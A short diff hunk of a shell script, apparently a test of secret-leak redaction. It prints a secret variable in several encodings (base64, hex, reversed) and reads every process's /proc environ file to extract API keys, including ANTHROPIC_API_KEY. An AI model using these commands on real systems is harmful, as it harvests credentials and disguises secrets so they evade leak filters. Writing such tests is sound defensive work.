@@ -10,6 +10,7 @@ echo "$LEAK" | base64
 printf '%s' "$LEAK" | od -An -tx1 | tr -d ' \n'; echo
 printf '%s' "$LEAK" | od -An -tx1 | tr -d ' \n' | tr 'a-f' 'A-F'; echo
 printf '%s\n' "$LEAK" | rev
+printf '%s' "$LEAK" | od -An -tx1
 printf 'wrapped: [%s]\n' "$(printf '%s' "$LEAK" | base64)"
 for f in /proc/[0-9]*/environ; do { tr '\0' '\n' < "$f"; } 2>/dev/null; done \
   | sed -n -E 's/^(ANTHROPIC_API_KEY|AGILEPLUS_SECRET_OTHER_WP)=//p' | sort -u | while read -r key; do
